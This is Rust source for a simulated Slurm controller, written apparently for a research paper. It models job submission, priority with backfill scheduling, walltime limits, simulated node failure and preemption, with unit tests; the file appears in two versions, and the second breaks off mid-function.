//! `Slurmctld` — the controller: job queue, node registry, scheduling cycle.
//!
//! Semantics follow Slurm's behaviour where it matters for the paper:
//!
//! * **Gang allocation** — a job starts only when a single node has all the
//!   requested resources free (the paper's service jobs are single-node).
//! * **Priority + FIFO with backfill** — pending jobs are considered in
//!   (priority desc, submit time asc) order; a lower-priority job may start
//!   if resources are free that the head-of-queue job cannot use
//!   (conservative backfill, the `sched/backfill` default).
//! * **Walltime enforcement** — jobs exceeding their time limit are killed.
//! * **Node failure** — a down node kills its jobs (`NODE_FAIL`), stays out
//!   of scheduling until restored; Slurm itself does *not* resubmit — the
//!   paper's scheduler script must handle that (§7.1.1).
//!
//! Driven by `tick()` (the scheduling cycle), which the service scheduler
//! triggers on every keep-alive ping, mirroring the paper's design (§5.5).

use std::collections::{BTreeMap, HashMap};

use super::types::*;
use crate::util::clock::{Clock, Millis};

/// Controller state. Not internally synchronized: wrap in `Arc<Mutex<_>>`.
pub struct Slurmctld {
    nodes: BTreeMap<String, NodeEntry>,
    jobs: BTreeMap<JobId, Job>,
    next_job_id: JobId,
    events: Vec<SlurmEvent>,
    clock: std::sync::Arc<dyn Clock>,
    /// Scheduling cycles performed (for stats / tests).
    pub cycles: u64,
}

struct NodeEntry {
    spec: NodeSpec,
    state: NodeState,
    free: Resources,
}

impl Slurmctld {
    pub fn new(clock: std::sync::Arc<dyn Clock>) -> Slurmctld {
        Slurmctld {
            nodes: BTreeMap::new(),
            jobs: BTreeMap::new(),
            next_job_id: 1,
            events: Vec::new(),
            clock,
            cycles: 0,
        }
    }

    /// Register a node (cluster bring-up).
    pub fn add_node(&mut self, spec: NodeSpec) {
        let free = spec.resources;
        self.nodes.insert(
            spec.name.clone(),
            NodeEntry {
                spec,
                state: NodeState::Up,
                free,
            },
        );
    }

    /// The paper's testbed: one service node (implicit) + `n` GPU nodes,
    /// 4×H100 each.
    pub fn with_gpu_nodes(clock: std::sync::Arc<dyn Clock>, n: usize) -> Slurmctld {
        let mut ctld = Slurmctld::new(clock);
        for i in 0..n {
            ctld.add_node(NodeSpec::gpu_node(&format!("ggpu{:02}", i + 1)));
        }
        ctld
    }

    pub fn now(&self) -> Millis {
        self.clock.now_ms()
    }

    // -- sbatch / scancel / squeue ------------------------------------------

    /// Submit a job (`sbatch`); it becomes Pending until a cycle places it.
    pub fn sbatch(&mut self, spec: JobSpec) -> JobId {
        let id = self.next_job_id;
        self.next_job_id += 1;
        self.jobs.insert(
            id,
            Job {
                id,
                spec,
                state: JobState::Pending,
                submitted_at: self.now(),
                ended_at: None,
            },
        );
        id
    }

    /// Cancel a job (`scancel`). Running jobs free their resources.
    pub fn scancel(&mut self, id: JobId) -> bool {
        let now = self.now();
        let Some(job) = self.jobs.get_mut(&id) else {
            return false;
        };
        if !job.state.is_active() {
            return false;
        }
        let prev = std::mem::replace(&mut job.state, JobState::Cancelled);
        job.ended_at = Some(now);
        if let JobState::Running { node, .. } = prev {
            Self::release(&mut self.nodes, &node, &job.spec.resources);
            self.events.push(SlurmEvent::JobEnded {
                job: id,
                node,
                state: JobStateTag::Cancelled,
            });
        }
        true
    }

    /// All active (pending or running) jobs — Slurm's `squeue`.
    pub fn squeue(&self) -> Vec<Job> {
        self.jobs
            .values()
            .filter(|j| j.state.is_active())
            .cloned()
            .collect()
    }

    /// Look up one job (`squeue -j`).
    pub fn job(&self, id: JobId) -> Option<&Job> {
        self.jobs.get(&id)
    }

    /// `sinfo`: (name, state, free resources) per node.
    pub fn sinfo(&self) -> Vec<(String, NodeState, Resources)> {
        self.nodes
            .values()
            .map(|n| (n.spec.name.clone(), n.state, n.free))
            .collect()
    }

    /// Total and free GPUs across Up nodes (utilization metric).
    pub fn gpu_utilization(&self) -> (u32, u32) {
        let mut total = 0;
        let mut free = 0;
        for n in self.nodes.values() {
            if n.state == NodeState::Up {
                total += n.spec.resources.gpus;
                free += n.free.gpus;
            }
        }
        (total, free)
    }

    // -- failure injection ---------------------------------------------------

    /// Mark a node Down; running jobs on it die with NODE_FAIL.
    pub fn fail_node(&mut self, name: &str) {
        let now = self.now();
        let Some(entry) = self.nodes.get_mut(name) else {
            return;
        };
        if entry.state == NodeState::Down {
            return;
        }
        entry.state = NodeState::Down;
        // Node resources are gone wholesale.
        entry.free = Resources::ZERO;
        self.events.push(SlurmEvent::NodeDown {
            node: name.to_string(),
        });
        let victims: Vec<JobId> = self
            .jobs
            .values()
            .filter(|j| j.running_node() == Some(name))
            .map(|j| j.id)
            .collect();
        for id in victims {
            let job = self.jobs.get_mut(&id).unwrap();
            job.state = JobState::NodeFail;
            job.ended_at = Some(now);
            self.events.push(SlurmEvent::JobEnded {
                job: id,
                node: name.to_string(),
                state: JobStateTag::NodeFail,
            });
        }
    }

    /// Bring a Down/Drained node back (admin fixed it).
    pub fn restore_node(&mut self, name: &str) {
        if let Some(entry) = self.nodes.get_mut(name) {
            if entry.state != NodeState::Up {
                entry.state = NodeState::Up;
                entry.free = entry.spec.resources;
                self.events.push(SlurmEvent::NodeRestored {
                    node: name.to_string(),
                });
            }
        }
    }

    /// Drain a node: finish current jobs, accept no new ones.
    pub fn drain_node(&mut self, name: &str) {
        if let Some(entry) = self.nodes.get_mut(name) {
            if entry.state == NodeState::Up {
                entry.state = NodeState::Drained;
            }
        }
    }

    // -- scheduling cycle -----------------------------------------------------

    /// One scheduling cycle: expire finished/overdue jobs, then place
    /// pending jobs (priority order + conservative backfill).
    pub fn tick(&mut self) {
        self.cycles += 1;
        let now = self.now();
        self.expire_jobs(now);
        self.place_pending(now);
    }

    fn expire_jobs(&mut self, now: Millis) {
        let mut ended: Vec<(JobId, String, JobStateTag)> = Vec::new();
        for job in self.jobs.values_mut() {
            if let JobState::Running { node, since } = &job.state {
                let node = node.clone();
                let ran = now.saturating_sub(*since);
                let finished = job.spec.duration.map(|d| ran >= d).unwrap_or(false);
                let timed_out = ran >= job.spec.time_limit;
                if finished || timed_out {
                    let tag = if finished {
                        JobStateTag::Completed
                    } else {
                        JobStateTag::Timeout
                    };
                    job.state = if finished {
                        JobState::Completed
                    } else {
                        JobState::Timeout
                    };
                    job.ended_at = Some(now);
                    ended.push((job.id, node, tag));
                }
            }
        }
        for (id, node, tag) in ended {
            let res = self.jobs[&id].spec.resources;
            Self::release(&mut self.nodes, &node, &res);
            self.events.push(SlurmEvent::JobEnded {
                job: id,
                node,
                state: tag,
            });
        }
    }

    fn place_pending(&mut self, now: Millis) {
        // Priority desc, then submit-time asc, then id asc (determinism).
        let mut pending: Vec<JobId> = self
            .jobs
            .values()
            .filter(|j| j.state == JobState::Pending)
            .map(|j| j.id)
            .collect();
        pending.sort_by_key(|id| {
            let j = &self.jobs[id];
            (-j.spec.priority, j.submitted_at, j.id)
        });
        // Conservative backfill: walk the queue in order; any job that fits
        // right now starts. (Head-of-line jobs that don't fit don't block
        // smaller jobs behind them — that's the backfill part; we don't
        // model reservations since service jobs have no known end time.)
        for id in pending {
            let spec = self.jobs[&id].spec.clone();
            if let Some(node) = self.find_node(&spec) {
                let entry = self.nodes.get_mut(&node).unwrap();
                entry.free.sub(&spec.resources);
                let job = self.jobs.get_mut(&id).unwrap();
                job.state = JobState::Running {
                    node: node.clone(),
                    since: now,
                };
                self.events.push(SlurmEvent::JobStarted { job: id, node });
            }
        }
    }

    /// Best-fit node selection: the Up node in the right partition with the
    /// fewest free GPUs that still fits (packs jobs, leaving big holes for
    /// big jobs — closer to Slurm's CR_Core_Memory default than first-fit).
    fn find_node(&self, spec: &JobSpec) -> Option<String> {
        self.nodes
            .values()
            .filter(|n| {
                n.state == NodeState::Up
                    && n.spec.partition == spec.partition
                    && spec.resources.fits_in(&n.free)
            })
            .min_by_key(|n| (n.free.gpus, n.free.cpus, n.spec.name.clone()))
            .map(|n| n.spec.name.clone())
    }

    fn release(nodes: &mut BTreeMap<String, NodeEntry>, node: &str, res: &Resources) {
        if let Some(entry) = nodes.get_mut(node) {
            // A Down node already zeroed its free pool; don't re-add.
            if entry.state != NodeState::Down {
                entry.free.add(res);
            }
        }
    }

    /// Drain accumulated events (the coordinator's prolog/epilog signal).
    pub fn drain_events(&mut self) -> Vec<SlurmEvent> {
        std::mem::take(&mut self.events)
    }

    // -- accounting -----------------------------------------------------------

    /// `sacct`: one record per terminated job.
    pub fn sacct(&self) -> Vec<AccountingRecord> {
        self.jobs
            .values()
            .filter(|j| !j.state.is_active())
            .map(|j| {
                AccountingRecord {
                    job: j.id,
                    name: j.spec.name.clone(),
                    node: None,
                    gpus: j.spec.resources.gpus,
                    queued_ms: 0,
                    ran_ms: j
                        .ended_at
                        .map(|e| e.saturating_sub(j.submitted_at))
                        .unwrap_or(0),
                    end_state: format!("{:?}", j.state),
                }
            })
            .collect()
    }

    /// Garbage-collect terminated jobs older than `keep_ms` (bounded memory
    /// for long-lived services).
    pub fn purge_old_jobs(&mut self, keep_ms: Millis) {
        let now = self.now();
        self.jobs.retain(|_, j| {
            j.state.is_active()
                || j.ended_at
                    .map(|e| now.saturating_sub(e) < keep_ms)
                    .unwrap_or(true)
        });
    }

    /// For invariant checks: assert no node is oversubscribed and free pools
    /// are consistent with running jobs.
    pub fn check_invariants(&self) {
        let mut used: HashMap<&str, Resources> = HashMap::new();
        for job in self.jobs.values() {
            if let JobState::Running { node, .. } = &job.state {
                used.entry(node.as_str())
                    .or_insert(Resources::ZERO)
                    .add(&job.spec.resources);
            }
        }
        for entry in self.nodes.values() {
            let u = used
                .get(entry.spec.name.as_str())
                .copied()
                .unwrap_or(Resources::ZERO);
            assert!(
                u.fits_in(&entry.spec.resources),
                "node {} oversubscribed: used {:?} > capacity {:?}",
                entry.spec.name,
                u,
                entry.spec.resources
            );
            if entry.state == NodeState::Up {
                let mut expect_free = entry.spec.resources;
                expect_free.sub(&u);
                assert_eq!(
                    entry.free, expect_free,
                    "node {} free pool drifted",
                    entry.spec.name
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::clock::SimClock;
    use std::sync::Arc;

    fn ctld(nodes: usize) -> (Arc<SimClock>, Slurmctld) {
        let clock = SimClock::new();
        let c = Slurmctld::with_gpu_nodes(clock.clone(), nodes);
        (clock, c)
    }

    #[test]
    fn sbatch_pending_until_tick() {
        let (_clock, mut ctld) = ctld(1);
        let id = ctld.sbatch(JobSpec::service("svc-a", 2, 60_000));
        assert_eq!(ctld.job(id).unwrap().state, JobState::Pending);
        ctld.tick();
        assert!(ctld.job(id).unwrap().state.is_running());
        let events = ctld.drain_events();
        assert!(matches!(events[0], SlurmEvent::JobStarted { .. }));
        ctld.check_invariants();
    }

    #[test]
    fn gang_allocation_blocks_when_full() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs
        let a = ctld.sbatch(JobSpec::service("a", 2, 60_000));
        let b = ctld.sbatch(JobSpec::service("b", 2, 60_000));
        let c = ctld.sbatch(JobSpec::service("c", 2, 60_000));
        ctld.tick();
        assert!(ctld.job(a).unwrap().state.is_running());
        assert!(ctld.job(b).unwrap().state.is_running());
        assert_eq!(ctld.job(c).unwrap().state, JobState::Pending);
        ctld.check_invariants();
        // cancel one; c can start next cycle
        ctld.scancel(a);
        ctld.tick();
        assert!(ctld.job(c).unwrap().state.is_running());
        ctld.check_invariants();
    }

    #[test]
    fn backfill_lets_small_jobs_pass_blocked_head() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs free
        let big = ctld.sbatch(JobSpec {
            priority: 200,
            ..JobSpec::service("big", 8, 60_000) // can never fit on 4-GPU node
        });
        let small = ctld.sbatch(JobSpec::service("small", 1, 60_000));
        ctld.tick();
        assert_eq!(ctld.job(big).unwrap().state, JobState::Pending);
        assert!(
            ctld.job(small).unwrap().state.is_running(),
            "small job should backfill past the blocked head-of-queue"
        );
    }

    #[test]
    fn priority_order_respected() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs
        let low = ctld.sbatch(JobSpec {
            priority: 10,
            ..JobSpec::service("low", 4, 60_000)
        });
        let high = ctld.sbatch(JobSpec {
            priority: 500,
            ..JobSpec::service("high", 4, 60_000)
        });
        ctld.tick();
        assert!(ctld.job(high).unwrap().state.is_running());
        assert_eq!(ctld.job(low).unwrap().state, JobState::Pending);
    }

    #[test]
    fn batch_job_completes_after_duration() {
        let (clock, mut ctld) = ctld(1);
        let res = Resources {
            cpus: 4,
            gpus: 1,
            mem_mb: 1000,
        };
        let id = ctld.sbatch(JobSpec::batch("train", res, 5_000, 60_000));
        ctld.tick();
        assert!(ctld.job(id).unwrap().state.is_running());
        clock.advance_by(4_999);
        ctld.tick();
        assert!(ctld.job(id).unwrap().state.is_running());
        clock.advance_by(1);
        ctld.tick();
        assert_eq!(ctld.job(id).unwrap().state, JobState::Completed);
        let (total, free) = ctld.gpu_utilization();
        assert_eq!(total, free);
    }

    #[test]
    fn walltime_kills_service_job() {
        let (clock, mut ctld) = ctld(1);
        let id = ctld.sbatch(JobSpec::service("svc", 2, 10_000));
        ctld.tick();
        clock.advance_by(10_000);
        ctld.tick();
        assert_eq!(ctld.job(id).unwrap().state, JobState::Timeout);
        ctld.check_invariants();
    }

    #[test]
    fn node_failure_kills_jobs_and_blocks_scheduling() {
        let (_clock, mut ctld) = ctld(2);
        let id = ctld.sbatch(JobSpec::service("svc", 4, 60_000));
        ctld.tick();
        let node = ctld.job(id).unwrap().running_node().unwrap().to_string();
        ctld.drain_events();
        ctld.fail_node(&node);
        assert_eq!(ctld.job(id).unwrap().state, JobState::NodeFail);
        let events = ctld.drain_events();
        assert!(events.iter().any(|e| matches!(e, SlurmEvent::NodeDown { .. })));
        assert!(events
            .iter()
            .any(|e| matches!(e, SlurmEvent::JobEnded { state: JobStateTag::NodeFail, .. })));
        // resubmit lands on the other node
        let id2 = ctld.sbatch(JobSpec::service("svc", 4, 60_000));
        ctld.tick();
        let node2 = ctld.job(id2).unwrap().running_node().unwrap().to_string();
        assert_ne!(node2, node);
        ctld.check_invariants();
        // restore the failed node
        ctld.restore_node(&node);
        let (total, free) = ctld.gpu_utilization();
        assert_eq!(total, 8);
        assert_eq!(free, 4);
    }

    #[test]
    fn drained_node_accepts_no_new_jobs() {
        let (_clock, mut ctld) = ctld(1);
        ctld.drain_node("ggpu01");
        let id = ctld.sbatch(JobSpec::service("svc", 1, 60_000));
        ctld.tick();
        assert_eq!(ctld.job(id).unwrap().state, JobState::Pending);
    }

    #[test]
    fn scancel_frees_resources_and_is_idempotent() {
        let (_clock, mut ctld) = ctld(1);
        let id = ctld.sbatch(JobSpec::service("svc", 4, 60_000));
        ctld.tick();
        assert!(ctld.scancel(id));
        assert!(!ctld.scancel(id));
        let (total, free) = ctld.gpu_utilization();
        assert_eq!(total, free);
        ctld.check_invariants();
    }

    #[test]
    fn squeue_lists_only_active() {
        let (_clock, mut ctld) = ctld(1);
        let a = ctld.sbatch(JobSpec::service("a", 1, 60_000));
        let _b = ctld.sbatch(JobSpec::service("b", 1, 60_000));
        ctld.tick();
        ctld.scancel(a);
        let q = ctld.squeue();
        assert_eq!(q.len(), 1);
        assert_eq!(q[0].spec.name, "b");
    }

    #[test]
    fn best_fit_packs_nodes() {
        let (_clock, mut ctld) = ctld(2);
        let a = ctld.sbatch(JobSpec::service("a", 2, 60_000));
        ctld.tick();
        let node_a = ctld.job(a).unwrap().running_node().unwrap().to_string();
        // next 2-GPU job should pack onto the same node (best fit)
        let b = ctld.sbatch(JobSpec::service("b", 2, 60_000));
        ctld.tick();
        let node_b = ctld.job(b).unwrap().running_node().unwrap().to_string();
        assert_eq!(node_a, node_b);
    }

    #[test]
    fn purge_keeps_active_jobs() {
        let (clock, mut ctld) = ctld(1);
        let a = ctld.sbatch(JobSpec::service("a", 1, 60_000));
        let b = ctld.sbatch(JobSpec::service("b", 1, 5_000));
        ctld.tick();
        clock.advance_by(5_000);
        ctld.tick(); // b times out
        clock.advance_by(100_000);
        ctld.purge_old_jobs(50_000);
        assert!(ctld.job(a).is_some());
        assert!(ctld.job(b).is_none());
    }
}
