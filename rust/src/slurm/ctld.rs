//! `Slurmctld` — the controller: job queue, node registry, scheduling cycle.
//!
//! Semantics follow Slurm's behaviour where it matters for the paper:
//!
//! * **Gang allocation** — a job starts only when a single node has all the
//!   requested resources free (the paper's service jobs are single-node).
//! * **Priority + FIFO with backfill** — pending jobs are considered in
//!   (priority desc, submit time asc) order; a lower-priority job may start
//!   if resources are free that the head-of-queue job cannot use
//!   (conservative backfill, the `sched/backfill` default).
//! * **Walltime enforcement** — jobs exceeding their time limit are killed.
//! * **Node failure** — a down node kills its jobs (`NODE_FAIL`), stays out
//!   of scheduling until restored; Slurm itself does *not* resubmit — the
//!   paper's scheduler script must handle that (§7.1.1).
//!
//! Driven by `tick()` (the scheduling cycle), which the service scheduler
//! triggers on every keep-alive ping, mirroring the paper's design (§5.5).

use std::collections::{BTreeMap, BTreeSet, HashMap};

use super::types::*;
use crate::util::clock::{Clock, Millis};

/// Controller state. Not internally synchronized: wrap in `Arc<Mutex<_>>`.
pub struct Slurmctld {
    nodes: BTreeMap<String, NodeEntry>,
    jobs: BTreeMap<JobId, Job>,
    next_job_id: JobId,
    events: Vec<SlurmEvent>,
    clock: std::sync::Arc<dyn Clock>,
    /// Preemptible jobs that received a [`SlurmEvent::PreemptionNotice`]:
    /// job → kill deadline (notice time + the job's grace budget).
    preempting: BTreeMap<JobId, Millis>,
    /// Jobs already sent a [`SlurmEvent::WalltimeWarning`] for this run.
    warned: BTreeSet<JobId>,
    /// Nodes being cleared by preemption, claimed for the job that needs
    /// them (node → preemptor). A claimed node accepts only its claimant,
    /// so the freed gap can't be stolen by the requeue it just caused.
    claims: BTreeMap<String, JobId>,
    /// Scheduling cycles performed (for stats / tests).
    pub cycles: u64,
}

struct NodeEntry {
    spec: NodeSpec,
    state: NodeState,
    free: Resources,
}

impl Slurmctld {
    pub fn new(clock: std::sync::Arc<dyn Clock>) -> Slurmctld {
        Slurmctld {
            nodes: BTreeMap::new(),
            jobs: BTreeMap::new(),
            next_job_id: 1,
            events: Vec::new(),
            clock,
            preempting: BTreeMap::new(),
            warned: BTreeSet::new(),
            claims: BTreeMap::new(),
            cycles: 0,
        }
    }

    /// Register a node (cluster bring-up).
    pub fn add_node(&mut self, spec: NodeSpec) {
        let free = spec.resources;
        self.nodes.insert(
            spec.name.clone(),
            NodeEntry {
                spec,
                state: NodeState::Up,
                free,
            },
        );
    }

    /// The paper's testbed: one service node (implicit) + `n` GPU nodes,
    /// 4×H100 each.
    pub fn with_gpu_nodes(clock: std::sync::Arc<dyn Clock>, n: usize) -> Slurmctld {
        let mut ctld = Slurmctld::new(clock);
        for i in 0..n {
            ctld.add_node(NodeSpec::gpu_node(&format!("ggpu{:02}", i + 1)));
        }
        ctld
    }

    pub fn now(&self) -> Millis {
        self.clock.now_ms()
    }

    // -- sbatch / scancel / squeue ------------------------------------------

    /// Submit a job (`sbatch`); it becomes Pending until a cycle places it.
    pub fn sbatch(&mut self, spec: JobSpec) -> JobId {
        let id = self.next_job_id;
        self.next_job_id += 1;
        self.jobs.insert(
            id,
            Job {
                id,
                spec,
                state: JobState::Pending,
                submitted_at: self.now(),
                ended_at: None,
                requeued: false,
            },
        );
        id
    }

    /// Cancel a job (`scancel`). Running jobs free their resources.
    pub fn scancel(&mut self, id: JobId) -> bool {
        let now = self.now();
        let Some(job) = self.jobs.get_mut(&id) else {
            return false;
        };
        if !job.state.is_active() {
            return false;
        }
        let prev = std::mem::replace(&mut job.state, JobState::Cancelled);
        job.ended_at = Some(now);
        self.preempting.remove(&id);
        self.warned.remove(&id);
        if let JobState::Running { node, .. } = prev {
            Self::release(&mut self.nodes, &node, &job.spec.resources);
            self.events.push(SlurmEvent::JobEnded {
                job: id,
                node,
                state: JobStateTag::Cancelled,
            });
        }
        true
    }

    /// All active (pending or running) jobs — Slurm's `squeue`.
    pub fn squeue(&self) -> Vec<Job> {
        self.jobs
            .values()
            .filter(|j| j.state.is_active())
            .cloned()
            .collect()
    }

    /// Look up one job (`squeue -j`).
    pub fn job(&self, id: JobId) -> Option<&Job> {
        self.jobs.get(&id)
    }

    /// `sinfo`: (name, state, free resources) per node.
    pub fn sinfo(&self) -> Vec<(String, NodeState, Resources)> {
        self.nodes
            .values()
            .map(|n| (n.spec.name.clone(), n.state, n.free))
            .collect()
    }

    /// Total and free GPUs across Up nodes (utilization metric).
    pub fn gpu_utilization(&self) -> (u32, u32) {
        let mut total = 0;
        let mut free = 0;
        for n in self.nodes.values() {
            if n.state == NodeState::Up {
                total += n.spec.resources.gpus;
                free += n.free.gpus;
            }
        }
        (total, free)
    }

    // -- failure injection ---------------------------------------------------

    /// Mark a node Down; running jobs on it die with NODE_FAIL.
    pub fn fail_node(&mut self, name: &str) {
        let now = self.now();
        let Some(entry) = self.nodes.get_mut(name) else {
            return;
        };
        if entry.state == NodeState::Down {
            return;
        }
        entry.state = NodeState::Down;
        // Node resources are gone wholesale.
        entry.free = Resources::ZERO;
        self.events.push(SlurmEvent::NodeDown {
            node: name.to_string(),
        });
        let victims: Vec<JobId> = self
            .jobs
            .values()
            .filter(|j| j.running_node() == Some(name))
            .map(|j| j.id)
            .collect();
        for id in victims {
            let job = self.jobs.get_mut(&id).unwrap();
            job.state = JobState::NodeFail;
            job.ended_at = Some(now);
            self.preempting.remove(&id);
            self.warned.remove(&id);
            self.events.push(SlurmEvent::JobEnded {
                job: id,
                node: name.to_string(),
                state: JobStateTag::NodeFail,
            });
        }
        self.claims.remove(name);
    }

    /// Bring a Down/Drained node back (admin fixed it).
    pub fn restore_node(&mut self, name: &str) {
        if let Some(entry) = self.nodes.get_mut(name) {
            if entry.state != NodeState::Up {
                entry.state = NodeState::Up;
                entry.free = entry.spec.resources;
                self.events.push(SlurmEvent::NodeRestored {
                    node: name.to_string(),
                });
            }
        }
    }

    /// Drain a node: finish current jobs, accept no new ones.
    pub fn drain_node(&mut self, name: &str) {
        if let Some(entry) = self.nodes.get_mut(name) {
            if entry.state == NodeState::Up {
                entry.state = NodeState::Drained;
            }
        }
    }

    // -- scheduling cycle -----------------------------------------------------

    /// One scheduling cycle: expire finished/overdue jobs, kill preempted
    /// jobs whose grace ran out (requeueing them at the front of the queue),
    /// warn jobs approaching walltime, then place pending jobs (priority
    /// order + reservation-aware conservative backfill + preemption).
    pub fn tick(&mut self) {
        self.cycles += 1;
        let now = self.now();
        self.expire_jobs(now);
        self.enforce_grace_deadlines(now);
        self.warn_walltimes(now);
        self.place_pending(now);
    }

    fn expire_jobs(&mut self, now: Millis) {
        let mut ended: Vec<(JobId, String, JobStateTag)> = Vec::new();
        for job in self.jobs.values_mut() {
            if let JobState::Running { node, since } = &job.state {
                let node = node.clone();
                let ran = now.saturating_sub(*since);
                let finished = job.spec.duration.map(|d| ran >= d).unwrap_or(false);
                let timed_out = ran >= job.spec.time_limit;
                if finished || timed_out {
                    let tag = if finished {
                        JobStateTag::Completed
                    } else {
                        JobStateTag::Timeout
                    };
                    job.state = if finished {
                        JobState::Completed
                    } else {
                        JobState::Timeout
                    };
                    job.ended_at = Some(now);
                    ended.push((job.id, node, tag));
                }
            }
        }
        for (id, node, tag) in ended {
            self.preempting.remove(&id);
            self.warned.remove(&id);
            let res = self.jobs[&id].spec.resources;
            Self::release(&mut self.nodes, &node, &res);
            self.events.push(SlurmEvent::JobEnded {
                job: id,
                node,
                state: tag,
            });
        }
    }

    /// Kill preempted jobs whose grace budget is spent. The job is requeued
    /// (same id, back to Pending, front of the queue) — Slurm's
    /// `PreemptMode=REQUEUE`; the scheduler script relaunches the instance
    /// when `JobStarted` fires again.
    fn enforce_grace_deadlines(&mut self, now: Millis) {
        let due: Vec<JobId> = self
            .preempting
            .iter()
            .filter(|(_, deadline)| now >= **deadline)
            .map(|(id, _)| *id)
            .collect();
        for id in due {
            self.preempting.remove(&id);
            self.warned.remove(&id);
            let Some(job) = self.jobs.get_mut(&id) else {
                continue;
            };
            let JobState::Running { node, .. } = job.state.clone() else {
                continue;
            };
            job.state = JobState::Pending;
            job.requeued = true;
            let res = job.spec.resources;
            Self::release(&mut self.nodes, &node, &res);
            self.events.push(SlurmEvent::JobEnded {
                job: id,
                node,
                state: JobStateTag::Preempted,
            });
        }
    }

    /// Emit one [`SlurmEvent::WalltimeWarning`] per run, `grace` before the
    /// walltime kill, so instances drain instead of dying mid-decode.
    fn warn_walltimes(&mut self, now: Millis) {
        let mut warnings: Vec<(JobId, String, Millis)> = Vec::new();
        for job in self.jobs.values() {
            if let JobState::Running { node, since } = &job.state {
                if job.spec.grace == 0 || self.warned.contains(&job.id) {
                    continue;
                }
                let ran = now.saturating_sub(*since);
                if ran + job.spec.grace >= job.spec.time_limit {
                    warnings.push((job.id, node.clone(), since + job.spec.time_limit));
                }
            }
        }
        for (id, node, deadline) in warnings {
            self.warned.insert(id);
            self.events.push(SlurmEvent::WalltimeWarning {
                job: id,
                node,
                deadline,
            });
        }
    }

    fn place_pending(&mut self, now: Millis) {
        // Requeued (preempted) jobs re-enter at the front of the queue;
        // then priority desc, submit-time asc, id asc (determinism).
        let mut pending: Vec<JobId> = self
            .jobs
            .values()
            .filter(|j| j.state == JobState::Pending)
            .map(|j| j.id)
            .collect();
        pending.sort_by_key(|id| {
            let j = &self.jobs[id];
            (
                std::cmp::Reverse(j.requeued),
                -j.spec.priority,
                j.submitted_at,
                j.id,
            )
        });
        // Drop node claims whose claimant is no longer waiting.
        {
            let jobs = &self.jobs;
            self.claims.retain(|_, claimant| {
                jobs.get(claimant)
                    .map(|j| j.state == JobState::Pending)
                    .unwrap_or(false)
            });
        }
        // Conservative backfill with a reservation: the first blocked job
        // reserves its earliest gap (node + start time from the running
        // jobs' guaranteed end times); a lower-priority job may only start
        // on the reserved node if it is guaranteed to end before the gap
        // begins. Blocked non-preemptible work additionally claims a node
        // by preempting the gap-harvesting service jobs on it (with grace).
        let mut reservation: Option<(String, Millis)> = None;
        for id in pending {
            let spec = self.jobs[&id].spec.clone();
            if let Some(node) = self.find_node(&spec, id, now, reservation.as_ref()) {
                let entry = self.nodes.get_mut(&node).unwrap();
                entry.free.sub(&spec.resources);
                let job = self.jobs.get_mut(&id).unwrap();
                job.state = JobState::Running {
                    node: node.clone(),
                    since: now,
                };
                self.claims.remove(&node);
                self.events.push(SlurmEvent::JobStarted { job: id, node });
            } else {
                if reservation.is_none() {
                    reservation = self.earliest_fit(&spec, id, now);
                }
                if !spec.preemptible {
                    self.try_preempt_for(id, &spec, now);
                }
            }
        }
    }

    /// Best-fit node selection: the Up node in the right partition with the
    /// fewest free GPUs that still fits (packs jobs, leaving big holes for
    /// big jobs — closer to Slurm's CR_Core_Memory default than first-fit).
    /// A node claimed by a preemption is reserved for its claimant, and the
    /// backfill reservation keeps lower-priority work out of the head-of-
    /// queue job's gap unless it provably ends first.
    fn find_node(
        &self,
        spec: &JobSpec,
        id: JobId,
        now: Millis,
        reservation: Option<&(String, Millis)>,
    ) -> Option<String> {
        self.nodes
            .values()
            .filter(|n| {
                n.state == NodeState::Up
                    && n.spec.partition == spec.partition
                    && spec.resources.fits_in(&n.free)
                    && self
                        .claims
                        .get(&n.spec.name)
                        .map(|claimant| *claimant == id)
                        .unwrap_or(true)
                    && match reservation {
                        Some((rnode, start)) if *rnode == n.spec.name => {
                            now.saturating_add(Self::guaranteed_end_bound(spec)) <= *start
                        }
                        _ => true,
                    }
            })
            .min_by_key(|n| (n.free.gpus, n.free.cpus, n.spec.name.clone()))
            .map(|n| n.spec.name.clone())
    }

    /// Upper bound on how long a job can hold its resources once started.
    fn guaranteed_end_bound(spec: &JobSpec) -> Millis {
        spec.duration
            .map(|d| d.min(spec.time_limit))
            .unwrap_or(spec.time_limit)
    }

    /// Earliest (node, start time) where `spec` fits, assuming running jobs
    /// release their resources at their guaranteed end times. This is the
    /// backfill reservation for a blocked head-of-queue job. Nodes claimed
    /// by a different job's preemption are off the table — reserving one
    /// would deadlock the claimant against its own reservation.
    fn earliest_fit(&self, spec: &JobSpec, id: JobId, now: Millis) -> Option<(String, Millis)> {
        let mut best: Option<(String, Millis)> = None;
        for entry in self.nodes.values() {
            if entry.state != NodeState::Up
                || entry.spec.partition != spec.partition
                || !spec.resources.fits_in(&entry.spec.resources)
                || !self
                    .claims
                    .get(&entry.spec.name)
                    .map(|claimant| *claimant == id)
                    .unwrap_or(true)
            {
                continue;
            }
            let name = entry.spec.name.as_str();
            let mut ends: Vec<(Millis, Resources)> = self
                .jobs
                .values()
                .filter(|j| j.running_node() == Some(name))
                .filter_map(|j| match &j.state {
                    JobState::Running { since, .. } => Some((
                        since.saturating_add(Self::guaranteed_end_bound(&j.spec)),
                        j.spec.resources,
                    )),
                    _ => None,
                })
                .collect();
            ends.sort_by_key(|(t, _)| *t);
            let mut free = entry.free;
            let mut start = now;
            for (t, res) in ends {
                if spec.resources.fits_in(&free) {
                    break;
                }
                free.add(&res);
                start = t.max(now);
            }
            if !spec.resources.fits_in(&free) {
                continue;
            }
            let better = match &best {
                None => true,
                Some((_, t)) => start < *t,
            };
            if better {
                best = Some((entry.spec.name.clone(), start));
            }
        }
        best
    }

    /// Blocked non-preemptible work reclaims a node from gap-harvesting
    /// service jobs: pick the node where evicting the fewest preemptible
    /// jobs frees enough, claim it for the preemptor, and send each victim
    /// a [`SlurmEvent::PreemptionNotice`] with its grace deadline.
    fn try_preempt_for(&mut self, id: JobId, spec: &JobSpec, now: Millis) {
        if self.claims.values().any(|claimant| *claimant == id) {
            return; // already clearing a node for this job
        }
        let mut best: Option<(String, Vec<JobId>)> = None;
        for entry in self.nodes.values() {
            if entry.state != NodeState::Up
                || entry.spec.partition != spec.partition
                || self.claims.contains_key(&entry.spec.name)
            {
                continue;
            }
            let name = entry.spec.name.as_str();
            let mut victims: Vec<&Job> = self
                .jobs
                .values()
